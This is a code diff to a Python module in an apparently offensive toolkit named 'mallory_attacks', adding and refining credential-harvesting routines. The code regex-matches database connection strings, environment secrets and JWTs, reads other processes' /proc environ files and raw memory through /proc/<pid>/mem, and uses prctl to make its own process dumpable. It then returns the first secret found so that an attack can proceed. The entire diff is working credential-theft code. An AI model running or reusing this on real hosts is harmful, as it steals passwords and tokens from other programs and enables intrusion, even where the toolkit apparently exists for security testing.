@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import ctypes
 import gc
 import json
 import os
@@ -14,24 +15,35 @@ from urllib.parse import unquote
 
 from mallory_attacks.attack import Facts, Refused
 
+PR_SET_DUMPABLE = 4  # linux/prctl.h
 MOST_OF_A_REGION = 1 << 28
 URL = re.compile(rb"(?:rediss?|(?:db\+)?postgresql(?:\+\w+)?)://([\w.-]*):([^@\s\"'\\\0]{8,})@([\w.-]+):(\d+)")
 VARIABLE = re.compile(rb"[A-Z_]{4,80}=([!-~]{8,200})")
+PRINTABLE = re.compile(rb"[!-~]{8,4000}")
 TOKEN = re.compile(rb"eyJ[\w-]{10,}\.(eyJ[\w-]{20,})\.[\w-]{20,}")
 
 
 def secrets_in(data: bytes, facts: Facts) -> dict[str, str]:
     """Return the secrets in some bytes by kind."""
-    candidates = {unquote(match[1].decode(errors="replace")) for match in URL.findall(data)}
-    candidates |= {value.decode() for value in VARIABLE.findall(data)}
-    for length in facts.lengths:
-        alone = re.compile(rb"(?<![!-~])[!-~]{%d}(?![!-~])" % length)
-        candidates |= {value.decode() for value in alone.findall(data)}
+    candidates = set()
+    for text in set(PRINTABLE.findall(data)):
+        if len(text) in facts.lengths:
+            candidates.add(text.decode())
+        if b"://" in text:
+            candidates |= {unquote(match[1].decode(errors="replace")) for match in URL.findall(text)}
+        if b"=" in text:
+            candidates |= {value.decode() for value in VARIABLE.findall(text)}
     return {kind: value for value in candidates if (kind := facts.kind(value))}
+
+
+def open_to_itself() -> None:
+    """Make this process dumpable again, as any process may: otherwise /proc/self is closed even to itself."""
+    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
 
 
 def own_environment(facts: Facts) -> dict[str, str]:
     """Search what this process was started with and what it has set since."""
+    open_to_itself()
     now = b"\0".join(name + b"=" + value for name, value in os.environb.items())
     return secrets_in(now + b"\0" + Path("/proc/self/environ").read_bytes(), facts)
 
@@ -68,6 +80,7 @@ def command_of(pid: int) -> str:
 
 def memory(pid: int | str) -> Iterator[bytes]:
     """Read the writable memory of a process."""
+    open_to_itself()
     maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
     with Path(f"/proc/{pid}/mem").open("rb", 0) as file:
         for line in maps:
@@ -100,6 +113,9 @@ def objects(facts: Facts) -> dict[str, str]:
     return found
 
 
+_searched: dict[int | str, dict[str, str]] = {}  # a search takes seconds, and many attacks need its result
+
+
 def best(kind: str, facts: Facts) -> str:
     """Return a secret from the first place that has it, or raise Refused: no credential, no attack."""
     if value := own_environment(facts).get(kind):
@@ -109,9 +125,12 @@ def best(kind: str, facts: Facts) -> str:
             if value := secrets_in(Path(f"/proc/{pid}/environ").read_bytes(), facts).get(kind):
                 return value
     for pid in readable():
-        with contextlib.suppress(OSError):
-            if value := secrets_in_memory(pid, facts).get(kind):
-                return value
+        if pid not in _searched:
+            _searched[pid] = {}
+            with contextlib.suppress(OSError):
+                _searched[pid] = secrets_in_memory(pid, facts)
+        if value := _searched[pid].get(kind):
+            return value
     raise Refused(f"no {kind} in this process, its environment, its parents or any process that it can read")
 
 
